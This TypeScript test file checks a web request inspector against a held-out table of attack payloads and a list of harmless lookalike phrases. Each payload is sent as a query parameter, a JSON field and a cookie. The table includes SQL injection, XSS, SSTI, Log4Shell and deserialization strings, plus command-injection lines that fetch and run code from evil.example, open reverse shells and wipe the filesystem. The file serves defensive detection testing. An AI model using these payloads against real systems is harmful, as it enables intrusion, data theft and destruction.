import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { detectionConfigSchema } from '../../src/detection/config.ts';
import { createInspector, type InspectionInput } from '../../src/detection/inspector.ts';

/**
 * Generality check (docs/detection.md, "Held-out probe"): attack payloads written for this project from the attack
 * classes, not taken from ../shared/corpus, each sent as a query parameter, a JSON field and a cookie, must be
 * detected (a finding of an attack rule, not only a protocol anomaly); and everyday phrases that look a little
 * like attacks must never be blocked on their own. Rules are tuned on the corpora; this table is the traffic they
 * were not tuned on, so a rule that only fits the corpora shows up here.
 */
const inspector = createInspector(detectionConfigSchema.parse({ limits: { timeBudgetMicros: 5_000_000 } }));
after(() => inspector.close());

const ATTACKS: [category: string, payload: string][] = [
  ['sqli', "admin'--"],
  ['sqli', "1 OR 1=1"],
  ['sqli', "1) OR (1=1"],
  ['sqli', "' OR 'x'='x"],
  ['sqli', "1; DROP TABLE users--"],
  ['sqli', "1' AND SLEEP(5)#"],
  ['sqli', "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)"],
  ['sqli', "1' UNION SELECT username,password FROM users--"],
  ['sqli', "1 AND extractvalue(1,concat(0x7e,version()))"],
  ['sqli', "1';WAITFOR DELAY '0:0:5'--"],
  ['sqli', "' OR 1=1 LIMIT 1 -- -"],
  ['sqli', "1 AND 1=CAST((SELECT version()) AS int)"],
  ['sqli', "-1 UNION/**/SELECT/**/1,2,3"],
  ['sqli', "1%27%20or%20%271%27%3D%271"],
  ['sqli', "' or ''='"],
  ['sqli', "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"],
  ['sqli', "1' AND ASCII(SUBSTRING((SELECT database()),1,1))>64--"],
  ['sqli', "id=1 and updatexml(1,concat(0x7e,(select user())),1)"],
  ['sqli', "' || (SELECT pg_sleep(10))--"],
  ['sqli', "1' ORDER BY 10--"],
  ['xss', "<img src=x onerror=alert(1)>"],
  ['xss', "<svg/onload=alert(1)>"],
  ['xss', "javascript:alert(document.domain)"],
  ['xss', "\"><script>alert(1)</script>"],
  ['xss', "<iframe src=\"javascript:alert(1)\">"],
  ['xss', "<body onload=prompt(1)>"],
  ['xss', "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"],
  ['xss', "<details open ontoggle=alert(1)>"],
  ['xss', "'-alert(1)-'"],
  ['xss', "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"],
  ['xss', "<input autofocus onfocus=alert(1)>"],
  ['xss', "%3Cscript%3Ealert(1)%3C%2Fscript%3E"],
  ['xss', "<scr<script>ipt>alert(1)</script>"],
  ['xss', "<video><source onerror=\"alert(1)\">"],
  ['xss', "\" onmouseover=\"alert(1)"],
  ['xss', "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"],
  ['cmdi', "; id"],
  ['cmdi', "| whoami"],
  ['cmdi', "`id`"],
  ['cmdi', "$(whoami)"],
  ['cmdi', "&& cat /etc/passwd"],
  ['cmdi', "; nc -e /bin/sh 10.0.0.1 4444"],
  ['cmdi', "|| curl http://evil.example/x.sh | sh"],
  ['cmdi', "; wget http://evil.example/a -O /tmp/a; chmod +x /tmp/a"],
  ['cmdi', "127.0.0.1; ls -la"],
  ['cmdi', "a;bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"],
  ['cmdi', "%0aid"],
  ['cmdi', "x|ping -c 10 127.0.0.1"],
  ['cmdi', "; powershell -enc SQBFAFgA"],
  ['cmdi', "& type C:\\windows\\win.ini"],
  ['cmdi', "c${IFS}a${IFS}t /etc/passwd"],
  ['cmdi', ";python -c 'import os;os.system(\"id\")'"],
  ['trav', "../../../../etc/passwd"],
  ['trav', "..%2f..%2f..%2fetc%2fpasswd"],
  ['trav', "....//....//etc/passwd"],
  ['trav', "..\\..\\..\\windows\\win.ini"],
  ['trav', "%252e%252e%252fetc%252fpasswd"],
  ['trav', "/var/www/../../etc/shadow"],
  ['trav', "file:///etc/passwd"],
  ['trav', "..%c0%af..%c0%afetc/passwd"],
  ['trav', "php://filter/convert.base64-encode/resource=index.php"],
  ['trav', "/proc/self/environ"],
  ['ssrf', "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
  ['ssrf', "http://127.0.0.1:6379/"],
  ['ssrf', "gopher://127.0.0.1:25/_HELO"],
  ['ssrf', "http://localhost/admin"],
  ['ssrf', "http://[::1]/"],
  ['ssrf', "http://0x7f000001/"],
  ['ssrf', "dict://127.0.0.1:11211/stats"],
  ['ssrf', "http://metadata.google.internal/computeMetadata/v1/"],
  ['ssrf', "http://100.100.100.200/latest/meta-data/"],
  ['ssrf', "http://2130706433/"],
  ['ssti', "{{7*7}}"],
  ['ssti', "${7*7}"],
  ['ssti', "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"],
  ['ssti', "<%= 7*7 %>"],
  ['ssti', "#{7*7}"],
  ['ssti', "{{''.__class__.__mro__[1].__subclasses__()}}"],
  ['ssti', "{% import os %}{{os.system('id')}}"],
  ['ssti', "*{T(java.lang.Runtime).getRuntime().exec('id')}"],
  ['log4j', "${jndi:ldap://evil.example/a}"],
  ['log4j', "${${lower:j}ndi:${lower:l}dap://x/a}"],
  ['log4j', "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"],
  ['log4j', "${jndi:dns://x.example/a}"],
  ['log4j', "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}"],
  ['xxe', "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>"],
  ['nosqli', '{"username":{"$ne":null},"password":{"$ne":null}}'],
  ['nosqli', '{"$where":"sleep(5000)"}'],
  ['nosqli', "username[$ne]=x&password[$ne]=x"],
  ['proto', '{"__proto__":{"isAdmin":true}}'],
  ['proto', "constructor[prototype][admin]=1"],
  ['java', "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"],
  ['java', "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"],
  ['java', "T(java.lang.Runtime).getRuntime().exec(\"id\")"],
  ['deser', "O:8:\"stdClass\":1:{s:4:\"test\";s:4:\"data\";}"],
  ['deser', "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ=="],
  ['php', "<?php system($_GET['c']); ?>"],
  ['php', "eval(base64_decode('ZWNobyAxOw=='))"],
  ['php', "assert($_POST[x])"],
  ['crlf', "%0d%0aSet-Cookie:%20admin=1"],
  ['crlf', "x\r\nX-Injected: 1"],
  ['ldap', "*)(uid=*))(|(uid=*"],
  ['ldap', "admin)(&)"],
  ['rfi', "http://evil.example/shell.txt?"],
  ['ssi', "<!--#exec cmd=\"id\"-->"],
  ['sqli', "1' AND 1=1 AND 'a'='a"],
  ['sqli', "1 AND 5=5"],
  ['sqli', "1'; EXEC xp_cmdshell('dir')--"],
  ['sqli', "' UNION SELECT NULL,@@version--"],
  ['sqli', "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0"],
  ['sqli', "admin' #"],
  ['sqli', "' OR 1 -- -"],
  ['sqli', "1' OR '1'='1"],
  ['sqli', "1 or benchmark(10000000,MD5(1))#"],
  ['sqli', "';SELECT pg_sleep(5)--"],
  ['sqli', "1) UNION ALL SELECT NULL--"],
  ['sqli', "1 AND 1=(SELECT 1 FROM dual)"],
  ['sqli', "1' AND GTID_SUBSET(@@version,0)-- "],
  ['sqli', "' AND 1=convert(int,(SELECT @@version))--"],
  ['sqli', "1;SELECT IF(1=1,SLEEP(5),0)"],
  ['sqli', "1 UNION SELECT LOAD_FILE('/etc/passwd')"],
  ['sqli', "1 INTO OUTFILE '/var/www/shell.php'"],
  ['sqli', "x' AND json_extract(1,'$')"],
  ['sqli', "name' LIKE '%"],
  ['sqli', "admin' AND password LIKE 'a%"],
  ['xss', "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"],
  ['xss', "<img src=1 oNeRrOr=alert`1`>"],
  ['xss', "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">"],
  ['xss', "<a href=javascript&colon;alert(1)>x"],
  ['xss', "<embed src=javascript:alert(1)>"],
  ['xss', "<form action=javascript:alert(1)><input type=submit>"],
  ['xss', "<marquee onstart=alert(1)>"],
  ['xss', "<isindex action=javascript:alert(1) type=image>"],
  ['xss', "{{constructor.constructor('alert(1)')()}}"],
  ['xss', "<x onpointerover=alert(1)>hover"],
  ['xss', "\"autofocus onfocus=alert(1) x=\""],
  ['xss', "</textarea><script>alert(1)</script>"],
  ['xss', "<style>@import'//evil.example/x.css';</style>"],
  ['xss', "<base href=//evil.example/>"],
  ['xss', "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>"],
  ['xss', "data:text/html,<script>alert(1)</script>"],
  ['cmdi', "$(curl -s http://evil.example/x|bash)"],
  ['cmdi', ";/bin/cat /etc/shadow"],
  ['cmdi', "|nslookup `whoami`.evil.example"],
  ['cmdi', "& ping -n 5 127.0.0.1 &"],
  ['cmdi', "; sleep 5 #"],
  ['cmdi', "`sleep 5`"],
  ['cmdi', "a\nid"],
  ['cmdi', "; echo PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg== | base64 -d > /var/www/s.php"],
  ['cmdi', "||perl -e 'print 1'"],
  ['cmdi', ";{cat,/etc/passwd}"],
  ['cmdi', "; cat$IFS/etc/passwd"],
  ['cmdi', "x; rm -rf / --no-preserve-root"],
  ['cmdi', "| certutil -urlcache -split -f http://evil.example/a.exe a.exe"],
  ['cmdi', "& cmd /c whoami"],
  ['cmdi', "; awk 'BEGIN{system(\"id\")}'"],
  ['trav', "..%252f..%252f..%252fetc/passwd"],
  ['trav', "/..;/..;/WEB-INF/web.xml"],
  ['trav', "..%5c..%5cwindows%5cwin.ini"],
  ['trav', "/%2e%2e/%2e%2e/etc/passwd"],
  ['trav', "../../../../../../boot.ini"],
  ['trav', "....\\\\....\\\\windows\\\\win.ini"],
  ['trav', "..././..././etc/passwd"],
  ['trav', "/etc/passwd%00.png"],
  ['ssrf', "http://0177.0.0.1/"],
  ['ssrf', "http://127.1/"],
  ['ssrf', "http://[0:0:0:0:0:ffff:127.0.0.1]/"],
  ['ssrf', "http://169.254.169.254.nip.io/"],
  ['ssrf', "http://localtest.me/"],
  ['ssrf', "file:///c:/windows/win.ini"],
  ['ssrf', "http://[fd00:ec2::254]/latest/meta-data/"],
  ['ssrf', "http://0/"],
  ['ssrf', "jar:http://evil.example/x.zip!/a"],
  ['ssrf', "ldap://127.0.0.1:389/"],
  ['ssrf', "http://instance-data/latest/"],
  ['ssti', "{{self.__init__.__globals__.__builtins__}}"],
  ['ssti', "${T(java.lang.System).getenv()}"],
  ['ssti', "{{request.application.__globals__}}"],
  ['ssti', "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"],
  ['ssti', "{{lipsum.__globals__.os.popen('id').read()}}"],
  ['ssti', "#set($x=$class.inspect(\"java.lang.Runtime\"))"],
  ['ssti', "{php}echo `id`;{/php}"],
  ['ssti', "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"],
  ['log4j', "${jndi:ldaps://x.example/a}"],
  ['log4j', "${j${::-n}di:ldap://x/a}"],
  ['log4j', "${jn${lower:d}i:l${lower:d}ap://x/a}"],
  ['log4j', "${${upper:j}ndi:ldap://x/a}"],
  ['log4j', "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"],
  ['log4j', "${jndi:${lower:l}${lower:d}a${lower:p}://x/a}"],
  ['log4j', "${jndi:iiop://x/a}"],
  ['xxe', "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;]><x/>"],
  ['xxe', "<!DOCTYPE a [<!ENTITY b SYSTEM \"php://filter/read=convert.base64-encode/resource=/etc/passwd\">]><a>&b;</a>"],
  ['xxe', "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>"],
  ['nosqli', '{"username":"admin","password":{"$gt":""}}'],
  ['nosqli', '{"$or":[{},{"a":"a"}]}'],
  ['nosqli', "user[$regex]=.*&pass[$ne]=1"],
  ['nosqli', '{"username":{"$regex":"^adm"}}'],
  ['nosqli', '{"$where":"this.password.length > 0"}'],
  // Server-side JavaScript breaking out of the string an application pastes into a `$where` function.
  ['nosqli', "'; return true; var x='"],
  ['nosqli', "x'; sleep(5000); var y='"],
  ['proto', '{"constructor":{"prototype":{"polluted":1}}}'],
  ['proto', "__proto__[admin]=1"],
  ['proto', "__proto__.isAdmin=true"],
  ['java', "${@java.lang.Runtime@getRuntime().exec('id')}"],
  ['java', "#{''.getClass().forName('java.lang.Runtime')}"],
  ['java', "(#context['xwork.MethodAccessor.denyMethodExecution']=false)"],
  ['java', "java.lang.Runtime.getRuntime().exec(\"calc\")"],
  ['java', "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"],
  ['deser', "a:2:{i:0;s:1:\"x\";i:1;O:8:\"Exploit\":0:{}}"],
  ['deser', "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/a\"}"],
  ['deser', "!!python/object/apply:os.system ['id']"],
  ['deser', "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"],
  ['php', "<?=`id`?>"],
  ['php', "system('cat /etc/passwd');"],
  ['php', "phpinfo();"],
  ['php', "${@print(md5(1))}"],
  ['php', "preg_replace('/a/e','system(\"id\")','a')"],
  ['php', "expect://id"],
  ['ldap', "*)(|(objectClass=*)"],
  ['ldap', "admin*)((|userPassword=*)"],
  ['deserialization', '0xACED00057372001A6A6176612E7574696C2E48617368536574'],
  ['deserialization', '\\xac\\xed\\x00\\x05\\x73\\x72\\x00\\x11java.util.HashMap'],
  ['crlf', "%0d%0aLocation:%20http://evil.example"],
  ['crlf', "%E5%98%8A%E5%98%8DSet-Cookie:x=1"],
  ['crlf', "\r\n\r\n<script>alert(1)</script>"],
  ['ssi', "<!--#include virtual=\"/etc/passwd\"-->"],
  ['ssi', "<!--#echo var=\"DOCUMENT_ROOT\"-->"],
  ['xpath', "' or '1'='1' or ''='"],
  ['xpath', "' and count(/*)=1 and '1'='1"],
  ['hpp', "id=1&id=2' OR 1=1--"],
  ['email', "victim@example.com%0ABcc:attacker@evil.example"],
  ['email', "attacker@evil.example\r\nCc: victim@example.com"],
  // Shapes attack tools send (sqlmap's column count, error-based delimiters and heuristic string; commix's echo
  // probe; tplmap's Twig and doT probes), written here from how the tools work.
  ['sqli', "1 ORDER BY 6142"],
  ['sqli', "1 AND GTID_SUBSET(CONCAT(0x71,(SELECT 1),0x71),6142)"],
  ['sqli', "1'\"),(.)(,.\""],
  ['cmdi', "& whoami"],
  ['cmdi', ";echo RVJXNI$((31+43))"],
  ['ssti', "{{['id']|filter('system')}}"],
  ['ssti', '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}'],
  ['ssti', "{{=7*7}}"],
  ['ssrf', "http://①②⑦.⓪.⓪.①/"],
  ['cmdi', "nohup bash -c 'id'"],
  ['cmdi', "x & ipconfig /all"],
  ['cmdi', "for %f in (c:\\windows\\*) do type %f"],
  ['ldap', "admin)&(objectClass=*"],
  ['log4j', "${:-x$}{jndi:ldap://x.example/a}"],
];

const EVERYDAY: string[] = ["O'Brien", "Let's select a union rep", "SELECT * is bad practice, said Bob", "drop me a line", "1 + 1 = 2", "rock & roll", "C:\\Users\\bob\\Documents", "../README.md is mentioned in docs", "https://example.com/path?x=1&y=2", "<b>bold</b> text", "I <3 cats", "alert: the server is down", "price < 100 and > 50", "email me at a.b@example.com", "{\"a\":1}", "it's 5 o'clock; time to go", "cat and dog", "the union of sets A and B", "where are you? select one", "javascript is fun", "script kiddies", "onload handler in React", "${HOME} is an env var", "{{ name }} is a template", "ping me", "echo chamber", "wget is a tool", "user@host:~$ ls", "a || b", "x = y && z", "1=1 is true", "SELECT your plan", "--verbose flag", "edit /etc/hosts to add the api entry", "Tom & Jerry; and friends", "O'Reilly's \"book\"", "café — naïve", "emoji 🎉 party", "#hashtag @mention", "100% sure", "50% off!", "semicolon; separated; list", "path/to/file.txt", "grep -r foo .", "function(){ return 1; }", "a<b>c", "1' is a minute", "what's up -- nothing", "tools like ping & nslookup are handy", "in order by 5pm", "choose a size (select 1)", "he said \"it's fine\" (really).", "R&D & hostname changes", "① first, ② second", "sh is a shell", "wget & curl are tools", "for each of us, in (most) cases"];

type Where = 'query' | 'json' | 'cookie';
function request(where: Where, value: string): InspectionInput {
  const headers: Record<string, string> = { host: 'api.example.com', 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0', accept: '*/*' };
  if (where === 'query')
    return { method: 'GET', path: '/api/v1/items', rawQuery: `q=${/%[0-9a-f]{2}/i.test(value) ? value : encodeURIComponent(value)}`, headers, bodyComplete: true };
  if (where === 'cookie') return { method: 'GET', path: '/api/v1/items', rawQuery: '', headers: { ...headers, cookie: `pref=${encodeURIComponent(value)}` }, bodyComplete: true };
  const body = value.startsWith('{') ? value : JSON.stringify({ comment: value });
  return { method: 'POST', path: '/api/v1/items', rawQuery: '', headers: { ...headers, 'content-type': 'application/json' }, body: Buffer.from(body), bodyComplete: true, contentType: 'application/json' };
}

/** Known gaps, each with the reason it is not a rule (yet): kept visible rather than left out of the table. */
const NOT_IN: Record<string, readonly Where[]> = {
  // A line break in a JSON string is prose more often than header injection; the crlf rules skip JSON bodies.
  'x\r\nX-Injected: 1': ['json'],
  '%0d%0aLocation:%20http://evil.example': ['json'],
  '%E5%98%8A%E5%98%8DSet-Cookie:x=1': ['json'],
  'victim@example.com%0ABcc:attacker@evil.example': ['json'],
};

describe('held-out attack payloads', () => {
  for (const [category, payload] of ATTACKS) {
    test(`${category}: ${JSON.stringify(payload).slice(0, 90)}`, () => {
      for (const where of ['query', 'json', 'cookie'] as const) {
        if (NOT_IN[payload]?.includes(where)) continue;
        const found = inspector
          .inspect(request(where, payload))
          .filter((f) => f.severity !== 'info' && f.category !== 'inspection' && f.category !== 'protocol');
        assert.ok(found.length > 0, `not detected in ${where}`);
      }
    });
  }
});

describe('everyday phrases that look a little like attacks', () => {
  test('none is blocked on its own, in any location', () => {
    const blocked: string[] = [];
    for (const text of EVERYDAY)
      for (const where of ['query', 'json', 'cookie'] as const)
        for (const f of inspector.inspect(request(where, text)))
          if (f.severity === 'critical') blocked.push(`${where} ${JSON.stringify(text)}: ${f.ruleId}`);
    assert.deepEqual(blocked, []);
  });
});
